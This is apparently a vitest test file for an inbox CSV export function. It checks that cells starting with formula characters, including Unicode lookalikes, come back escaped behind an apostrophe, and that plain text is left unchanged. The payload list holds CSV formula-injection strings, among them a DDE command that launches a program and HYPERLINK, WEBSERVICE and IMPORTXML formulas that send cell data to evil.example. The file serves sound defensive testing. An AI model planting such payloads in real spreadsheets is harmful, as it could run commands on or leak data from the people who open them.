import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { csvLine } from './export-inbox.server.ts'

const COMMANDS = [
  'cmd|"/C calc"!A0',
  'HYPERLINK("https://evil.example?x="&A1,"Click")',
  'WEBSERVICE("https://evil.example")',
  'IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  '1+1',
]
const BEGINNINGS = '= + - @ \t= \r= \n= \u00A0= \uFEFF= \u200B= \u0000= \uFF1D \uFF0B \uFF0D \uFF20'.split(' ')
const PAYLOADS = [...BEGINNINGS.flatMap((beginning) => COMMANDS.map((command) => beginning + command)), ' =1', '\tx', '\rx', '\nx', '=']

const readBack = (line: string): string[] => (parse(line, { relax_column_count: true }) as string[][])[0]!

test(`${PAYLOADS.length} formulas come back as text: behind an apostrophe, in one cell, and otherwise as they were typed`, () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(50)
  for (const payload of PAYLOADS) {
    const cells = readBack(csvLine(['before', payload, 'after']))
    expect(cells, JSON.stringify(payload)).toEqual(['before', `'${payload}`, 'after'])
  }
})

test('what is no formula is left alone, whatever stands in it', () => {
  const cells = [
    'Ruth Ellis',
    '',
    'a "word", then\r\nanother line',
    '3 + 4 = 7',
    'ruth@example.org',
    "O'Neil",
    '12 Main St; Atlanta',
    'Zoë 🌱',
  ]
  expect(readBack(csvLine(cells))).toEqual(cells)
  expect(csvLine(['one', 'two'])).toBe('"one","two"\r\n')
})
